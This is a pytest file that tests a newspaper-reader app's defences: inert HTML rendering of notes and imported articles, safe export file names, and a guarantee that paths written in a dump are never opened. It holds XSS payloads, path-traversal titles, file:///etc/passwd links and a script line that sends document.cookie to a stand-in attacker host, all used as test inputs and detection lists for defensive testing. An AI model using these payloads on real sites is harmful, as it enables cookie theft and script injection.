"""Safety: what a dump or a note says is shown, never run, fetched or opened.

- Notes (Markdown) and article text render to HTML with no script, no
  element that loads anything (img, iframe, object, link…), no event
  handler and no link other than http(s)/mailto (notes, exported pages) or
  the app's own `zz:` scheme (the reader page); the exported page also
  carries a Content-Security-Policy that forbids loading anything.
- The reader page and the note preview never load a resource themselves.
- A file name suggested from an article title stays in the chosen folder.
- No path written in a dump (absolute, relative, file: URL, Windows) is
  ever opened while parsing, importing, searching, rendering or exporting:
  Python's audit hook records every file the process opens.
"""

from __future__ import annotations

import html.parser
import io
import sys
from pathlib import Path

import pytest

from tests.reliability.helpers import seeded_library
from zzreader.core import export
from zzreader.core import w3c
from zzreader.core.importer import import_paths
from zzreader.core.notes import render_note_html
from zzreader.core.store import Library

EVIL = "evil.example"
HOSTILE_NOTES = [
    "<script>alert(1)</script>",
    f'<img src="http://{EVIL}/t.png" onerror="alert(1)">',
    f"![跟踪](http://{EVIL}/pixel.png)",
    f"![a][ref]\n\n[ref]: http://{EVIL}/ref.png",
    "[点我](javascript:alert(1))",
    "[本地](file:///etc/passwd)",
    "[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'<iframe src="http://{EVIL}/"></iframe>',
    f'<a href="http://{EVIL}/" onclick="steal()">链接</a>',
    '<div onmouseover="alert(1)">悬停</div>',
    "<svg onload=alert(1)><circle/></svg>",
    f'<link rel="stylesheet" href="http://{EVIL}/s.css">',
    f"<style>body {{ background: url(http://{EVIL}/bg.png) }}</style>",
    "&lt;script&gt; 已转义的文字",
    f"<http://{EVIL}/auto>",
    "`<script>` 在代码里 and\n\n```\n<img src=x onerror=alert(1)>\n```",
]
LOADING_TAGS = {"script", "img", "iframe", "object", "embed", "link", "svg", "video", "audio",
                "source", "frame", "frameset", "applet", "base", "form", "input", "picture"}  # fmt: skip


class _Walker(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.style_text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style_text.append(data)


def unsafe_parts(page: str, link_schemes: tuple[str, ...] = ("http:", "https:", "mailto:", "#")) -> list[str]:
    """Everything in an HTML page that could run code or load something."""
    w = _Walker()
    w.feed(page)
    found = []
    for tag, attrs in w.tags:
        if tag in LOADING_TAGS:
            found.append(f"<{tag}>")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in attrs.items():
            v = (value or "").strip().lower()
            if name.startswith("on"):
                found.append(f"{tag} {name}=")
            if name in ("src", "srcset", "background", "poster", "data", "action", "formaction"):
                found.append(f"{tag} {name}={v}")
            if name == "href" and not v.startswith(link_schemes):
                found.append(f"{tag} href={v}")
            if name == "style" and ("url(" in v or "expression(" in v or "@import" in v):
                found.append(f"{tag} style={v}")
    for css in w.style_text:
        if "url(" in css.lower() or "@import" in css.lower():
            found.append("url() in <style>")
    return found


# -- notes ---------------------------------------------------------------------------
@pytest.mark.parametrize("note", HOSTILE_NOTES)
def test_a_hostile_note_renders_to_inert_html(note: str) -> None:
    rendered = render_note_html(note)
    assert unsafe_parts(rendered) == [], rendered
    assert EVIL not in rendered or f"http://{EVIL}/" in rendered  # only as a plain link or text


def test_raw_html_in_a_note_is_shown_as_text() -> None:
    rendered = render_note_html("<script>alert(1)</script> 与 <b>粗体</b>")
    assert "&lt;script&gt;" in rendered and "&lt;b&gt;" in rendered


# -- a dump full of markup, imported and rendered ----------------------------------------
HOSTILE_DUMP = f"""株洲日报
2024年12月5日 星期四

<script>alert("标题")</script>市民热议神农城 <img src=http://{EVIL}/t.png>

本报讯（记者 李明）<img src="http://{EVIL}/track.png" onerror="alert(1)">12月4日，神农城内樱花盛开，<script>fetch('http://{EVIL}/?c='+document.cookie)</script>市民纷纷前往。详见 file:///etc/passwd 与 ../../secret.txt 以及 C:\\Windows\\win.ini。

![图](http://{EVIL}/p.png) <iframe src="http://{EVIL}/"></iframe><a href="javascript:alert(1)">点我</a>株洲新闻继续报道。
"""


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Library, int]:
    library = seeded_library(tmp_path / "library.sqlite")
    dump = tmp_path / "zzrb-2024-12-05.txt"
    dump.write_text(HOSTILE_DUMP, encoding="utf-8")
    report = import_paths(library, [dump], workers=0)
    assert report.files[0].status == "imported", report.files[0]
    issue_id = report.files[0].issue_id
    article = max(library.article_summaries(issue_id), key=lambda a: len(library.article(a.id).text))
    text = library.article(article.id).text
    assert "<script>" in text and "<img" in text  # the markup really is in the article
    for n, note in enumerate(HOSTILE_NOTES[:6]):
        library.highlights.add(article.id, n, n + 2, note=note, tags=["<b>标签</b>"])
    yield library, article.id
    library.close()


def test_the_exported_article_page_is_inert_and_forbids_loading(hostile: tuple[Library, int]) -> None:
    library, article_id = hostile
    page = export.article_html(library, article_id)
    assert unsafe_parts(page) == []
    assert "default-src 'none'" in page
    assert "&lt;script&gt;" in page


def test_the_reader_page_is_inert_and_links_only_to_the_app(hostile: tuple[Library, int]) -> None:
    from zzreader.gui.article_html import ArticleMeta, Style, article_html

    library, article_id = hostile
    article = library.article(article_id)
    style = Style(family="Noto Serif CJK SC", size=14, line_spacing=180, ink="#222", muted="#666",
                  accent="#a33", chip="#eee", rule="#ccc", caption_bg="#f5f5f5", page="#fff")  # fmt: skip
    for source in (None, library.article_source(article_id)):
        page = article_html(article, ArticleMeta("2024-12-05", 1, 1, 1), style, source=source)
        assert unsafe_parts(page, link_schemes=("zz:",)) == []
        assert "&lt;script&gt;" in page


def test_markdown_export_escapes_markup_from_the_dump(hostile: tuple[Library, int]) -> None:
    library, _ = hostile
    md = export.export_markdown(library)
    quoted = [line for line in md.splitlines() if line.startswith(("> ", "### "))]
    assert quoted
    for line in quoted:
        assert "<script" not in line and "<img" not in line, line


def test_the_reader_page_and_note_preview_load_no_resource(qtbot) -> None:
    pytest.importorskip("PySide6")
    from zzreader.gui.article_page import ArticlePage
    from zzreader.gui.highlight_editor import NotePreview
    from zzreader.gui.qt import QUrl

    for widget in (ArticlePage(), NotePreview()):
        qtbot.addWidget(widget)
        assert not widget.openLinks() and not widget.openExternalLinks()
        for url in (f"http://{EVIL}/x.png", "file:///etc/passwd", "qrc:/x.png"):
            image = widget.loadResource(2, QUrl(url))  # a blank pixel: Qt reads a missing image's file itself
            assert image.size().width() == 1 and image.pixelColor(0, 0).alpha() == 0
            assert widget.loadResource(3, QUrl(url)) is None  # a style sheet: nothing


# -- file names from titles ------------------------------------------------------------
TITLES = ["../../逃逸", "a/b 测试 标题", "..\\..\\windows", "/etc/passwd", "C:\\x\\y", "..", ".", "~/x",
          "   ", "株洲" * 100, "x\ny", "CON", "名字:*?\"<>|"]  # fmt: skip


@pytest.mark.parametrize("title", TITLES)
def test_an_export_file_name_made_from_a_title_stays_in_the_folder(
    title: str, tmp_path: Path, qtbot, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("PySide6")
    from zzreader.gui import file_dialogs, prompts
    from zzreader.gui.main_window import MainWindow
    from zzreader.gui.qt import QSettings

    monkeypatch.setenv("ZZREADER_SETTINGS", str(tmp_path / "settings.ini"))
    library = seeded_library(tmp_path / "lib" / "library.sqlite")
    article_id = library.db.execute("SELECT id FROM articles ORDER BY id LIMIT 1").fetchone()[0]
    with library.lock, library.db.atomic():
        library.db.execute("UPDATE articles SET title = ? WHERE id = ?", [title, article_id])
    library.close()
    window = MainWindow(tmp_path / "lib" / "library.sqlite", QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(window)
    try:
        window.open_article(article_id)
        file_dialogs.remember("export", tmp_path / "lib")  # the folder last exported to
        asked: list[str] = []

        def accept_suggestion(_parent, _title, suggested: str, _filters, *_purpose) -> str:
            asked.append(suggested)
            return suggested

        monkeypatch.setattr(prompts, "ask_save_path", accept_suggestion)
        written = window.io.export_article("html")
        folder = (tmp_path / "lib").resolve()
        assert Path(asked[0]).resolve().parent == folder
        assert written is not None and Path(written).resolve().parent == folder
        assert Path(written).is_file()
    finally:
        window.shutdown()


# -- paths in a dump are never opened ----------------------------------------------------
_OPENED: list[str] = []
_RECORDING = [False]


def _audit(event: str, args: tuple) -> None:
    if _RECORDING[0] and event in ("open", "os.listdir", "os.scandir", "shutil.copyfile", "sqlite3.connect"):
        _OPENED.append(f"{event} {args[0]!r}")


def test_no_path_written_in_a_dump_is_ever_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret" / "passwords.txt"
    secret.parent.mkdir()
    secret.write_text("株洲日报讯 密码", encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    dump = work / "zzrb-2024-12-06.txt"
    dump.write_text(
        "株洲日报\n2024年12月6日 星期五\n\n路径测试 打开了吗\n\n"
        f"本报讯（记者 李明）文件在 {secret} 和 file://{secret} 以及 ../secret/passwords.txt，"
        f"还有 <img src=\"{secret}\"> 与 ![x]({secret}) 和 [链接](file://{secret})。\n\n"
        f"{secret}\n\n../secret/passwords.txt\n",
        encoding="utf-8",
    )
    sys.addaudithook(_audit)
    _RECORDING[0], _OPENED[:] = True, []
    try:
        library = seeded_library(work / "library.sqlite")
        report = import_paths(library, [dump], workers=0)
        issue_id = report.files[0].issue_id
        ids = [a.id for a in library.article_summaries(issue_id)]
        for article_id in ids:
            text = library.article(article_id).text
            library.highlights.add(article_id, 0, 2, note=f"![x]({secret}) [y](file://{secret}) {secret}")
            export.article_html(library, article_id)
            library.article_source(article_id)
        assert str(secret) in library.issue_source_text(issue_id)
        library.search("passwords")
        export.export_markdown(library)
        w3c.write_w3c(library, io.StringIO())
        export.write_csv(library, io.StringIO())
        render_note_html(f"![x]({secret})")
        # An annotation file naming the secret as its target and sources.
        data = w3c.export_w3c(library)
        for item in w3c.annotation_items(data):
            item["id"] = f"urn:uuid:{__import__('uuid').uuid4()}"
            target = item["target"][0] if isinstance(item["target"], list) else item["target"]
            if isinstance(target, dict):
                target["source"] = f"file://{secret}"
        w3c.import_w3c(library, data)
        library.close()
    finally:
        _RECORDING[0] = False
    opened = list(_OPENED)
    assert opened, "the audit hook saw nothing: the test would prove nothing"
    assert any(str(dump) in o for o in opened)  # the dump itself is read, of course
    leaked = [o for o in opened if "secret" in o or "passwords" in o]
    assert leaked == []
    assert text  # the article exists
